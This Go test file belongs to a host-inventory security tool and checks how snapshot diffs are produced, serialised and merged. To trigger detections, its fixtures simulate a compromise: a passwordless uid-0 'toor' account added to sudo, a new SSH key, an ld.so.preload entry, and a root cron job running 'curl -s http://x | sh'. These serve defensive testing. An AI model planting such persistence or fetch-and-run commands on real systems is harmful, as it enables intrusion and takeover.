package inventory

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/plugin"
	"github.com/vigilsec/vigil/internal/severity"
)

func ran(cats ...string) map[string]plugin.Status {
	m := map[string]plugin.Status{}
	for _, c := range cats {
		m[c] = plugin.Status{State: plugin.StateSucceeded}
	}
	return m
}

func baseline() *Snapshot {
	day := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
	return &Snapshot{
		Status: ran(Categories...),
		Inventory: Inventory{
			Host: &Host{Hostname: "web-01", Kernel: Kernel{Release: "6.1.0-26-amd64"}},
			Accounts: &Accounts{
				Users: []User{
					{Name: "root", UID: 0, Shell: "/bin/bash", InteractiveShell: true, PasswordState: "set",
						PasswordLastChange: &day, AuthorizedKeys: []AuthorizedKey{}},
					{Name: "alice", UID: 1000, GID: 1000, Shell: "/bin/bash", InteractiveShell: true,
						PasswordState: "set", PasswordLastChange: &day,
						AuthorizedKeys: []AuthorizedKey{{Type: "ssh-ed25519", Fingerprint: "SHA256:old"}}},
					{Name: "gone", UID: 1001, Shell: "/usr/sbin/nologin", PasswordState: "locked"},
				},
				Groups: []Group{{Name: "sudo", GID: 27, Members: []string{"alice"}}},
			},
			Ports: []Port{
				{Protocol: "tcp", Family: 4, Address: "0.0.0.0", Port: 22, Exe: "/usr/sbin/sshd", Exposed: true},
			},
			ScheduledTasks: []ScheduledTask{
				{Type: "cron", User: "root", Schedule: "17 * * * *", Command: "run-parts /etc/cron.hourly", Source: "/etc/crontab"},
			},
			StartupItems: []StartupItem{
				{Type: "systemd", Name: "ssh.service", Source: "/lib/systemd/system/ssh.service", Command: "/usr/sbin/sshd -D", Enabled: true},
			},
			Packages: []Package{{Name: "openssl", Version: "3.0.11-1~deb12u1", Arch: "amd64", Type: "deb"}},
		},
	}
}

func TestDiff(t *testing.T) {
	old := baseline()
	cur := baseline()
	later := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	cur.Accounts.Users[1].AuthorizedKeys = append(cur.Accounts.Users[1].AuthorizedKeys,
		AuthorizedKey{Type: "ssh-rsa", Fingerprint: "SHA256:new", File: "/home/alice/.ssh/authorized_keys"})
	cur.Accounts.Users[1].PasswordLastChange = &later
	cur.Accounts.Users = append(cur.Accounts.Users[:2],
		User{Name: "toor", UID: 0, Shell: "/bin/sh", InteractiveShell: true, PasswordState: "none"})
	cur.Accounts.Groups[0].Members = append(cur.Accounts.Groups[0].Members, "toor")
	cur.Ports = append(cur.Ports, Port{Protocol: "tcp", Family: 6, Address: "::1", Port: 6379, PID: 42, Exe: "/usr/bin/redis-server"})
	cur.ScheduledTasks = append(cur.ScheduledTasks, ScheduledTask{Type: "cron", User: "root",
		Schedule: "* * * * *", Command: "curl -s http://x | sh", Source: "/etc/cron.d/x"})
	cur.StartupItems = append(cur.StartupItems, StartupItem{Type: "ld_so_preload", Name: "/lib/libx.so", Source: "/etc/ld.so.preload", Enabled: true})
	cur.Packages[0].Version = "3.0.15-1~deb12u1"
	cur.Host.Kernel.Release = "6.1.0-28-amd64"

	want := []Change{
		{Kind: ChangeAdded, Category: "accounts", Subject: `user "toor"`, Summary: `new uid-0 user "toor"`, Severity: severity.Critical},
		{Kind: ChangeAdded, Category: "startup_items", Subject: "ld_so_preload /lib/libx.so",
			Summary: `new ld_so_preload startup item "/lib/libx.so" (/etc/ld.so.preload)`, Severity: severity.Critical},
		{Kind: ChangeModified, Category: "accounts", Subject: `group "sudo"`, Field: "members", After: "toor",
			Summary: `"toor" added to group "sudo"`, Severity: severity.High},
		{Kind: ChangeAdded, Category: "accounts", Subject: `user "alice"`, Field: "authorized_key", After: "SHA256:new",
			Summary: `new authorized key ssh-rsa SHA256:new for "alice" in /home/alice/.ssh/authorized_keys`, Severity: severity.High},
		{Kind: ChangeAdded, Category: "scheduled_tasks", Subject: "cron /etc/cron.d/x",
			Summary: "new cron task for root: * * * * * curl -s http://x | sh (/etc/cron.d/x)", Severity: severity.High},
		{Kind: ChangeAdded, Category: "ports", Subject: "tcp [::1]:6379",
			Summary: "new local listening port tcp [::1]:6379 (/usr/bin/redis-server, pid 42)", Severity: severity.Medium},
		{Kind: ChangeModified, Category: "accounts", Subject: `user "alice"`, Field: "password_last_change",
			Before: "2026-10-01", After: "2026-11-20", Summary: `password of "alice" changed`, Severity: severity.Low},
		{Kind: ChangeRemoved, Category: "accounts", Subject: `user "gone"`, Summary: `user "gone" removed`, Severity: severity.Low},
		{Kind: ChangeModified, Category: "host", Subject: `host "web-01"`, Field: "kernel", Before: "6.1.0-26-amd64",
			After: "6.1.0-28-amd64", Summary: "kernel 6.1.0-26-amd64 -> 6.1.0-28-amd64", Severity: severity.Info},
		{Kind: ChangeModified, Category: "packages", Subject: "deb openssl:amd64", Field: "version",
			Before: "3.0.11-1~deb12u1", After: "3.0.15-1~deb12u1", Summary: "package openssl 3.0.11-1~deb12u1 -> 3.0.15-1~deb12u1",
			Severity: severity.Info},
	}
	if diff := cmp.Diff(want, Diff(old, cur)); diff != "" {
		t.Errorf("Diff (-want +got):\n%s", diff)
	}
}

func TestDiffIdenticalIsEmpty(t *testing.T) {
	if got := Diff(baseline(), baseline()); len(got) != 0 {
		t.Errorf("Diff of identical snapshots = %+v, want none", got)
	}
}

func TestDiffSkipsCategoriesThatDidNotRunInBoth(t *testing.T) {
	old := baseline()
	cur := baseline()
	cur.Ports = nil
	cur.Status[CategoryPorts] = plugin.Status{State: plugin.StateFailed, Error: "netlink: permission denied"}
	cur.Packages = nil
	delete(cur.Status, CategoryPackages)
	if got := Diff(old, cur); len(got) != 0 {
		t.Errorf("Diff = %+v, want nothing for failed or absent categories", got)
	}
}

func TestSnapshotJSONRoundTrip(t *testing.T) {
	s := baseline()
	s.SchemaVersion = SchemaVersion
	s.CollectedAt = time.Date(2026, 11, 27, 10, 0, 0, 123, time.UTC)
	s.Containers = nil // ran, none found
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]json.RawMessage
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, c := range append(append([]string{}, Categories...), "status") {
		if _, ok := m[c]; !ok {
			t.Errorf("key %q missing from %s", c, b)
		}
	}
	if string(m["containers"]) != "[]" {
		t.Errorf("containers = %s, want []", m["containers"])
	}
	var back Snapshot
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if d := Diff(s, &back); len(d) != 0 {
		t.Errorf("round trip changed the snapshot: %+v", d)
	}
	if !back.CollectedAt.Equal(s.CollectedAt) {
		t.Errorf("collected_at = %v, want %v", back.CollectedAt, s.CollectedAt)
	}
}

func TestSnapshotOnlyRanCategoriesAreWritten(t *testing.T) {
	s := &Snapshot{Status: ran(CategoryPorts)}
	b, _ := json.Marshal(s)
	var m map[string]json.RawMessage
	json.Unmarshal(b, &m)
	if _, ok := m["accounts"]; ok {
		t.Errorf("accounts written although not collected: %s", b)
	}
	if string(m["ports"]) != "[]" {
		t.Errorf("ports = %s, want []", m["ports"])
	}
}

func TestMergeFromKeepsBaselineOfFailedAndUnselected(t *testing.T) {
	base := baseline()
	newer := &Snapshot{Status: map[string]plugin.Status{
		CategoryPorts:    {State: plugin.StateSucceeded},
		CategoryPackages: {State: plugin.StateFailed, Error: "boom"},
	}}
	base.MergeFrom(newer)
	if len(base.Ports) != 0 {
		t.Errorf("ports not replaced: %+v", base.Ports)
	}
	if len(base.Packages) != 1 || base.Status[CategoryPackages].State != plugin.StateSucceeded {
		t.Errorf("failed packages run overwrote the baseline: %+v %+v", base.Packages, base.Status[CategoryPackages])
	}
	if base.Accounts == nil {
		t.Error("unselected accounts dropped")
	}
}

func TestDiffNewMiddlewareNamesWhereItListens(t *testing.T) {
	old, cur := baseline(), baseline()
	cur.Middleware = []Middleware{{Name: "redis", Version: "5:7.0.15-1~deb12u1", Exe: "/usr/bin/redis-server", Running: true,
		Listen: []ListenAddr{{Protocol: "tcp", Address: "::", Port: 6379, Exposed: true}}}}
	want := []Change{{Kind: ChangeAdded, Category: CategoryMiddleware, Subject: "redis (/usr/bin/redis-server)",
		Summary: "new middleware redis 5:7.0.15-1~deb12u1 listening on tcp [::]:6379", Severity: severity.Medium}}
	if diff := cmp.Diff(want, Diff(old, cur)); diff != "" {
		t.Errorf("Diff (-want +got):\n%s", diff)
	}
}
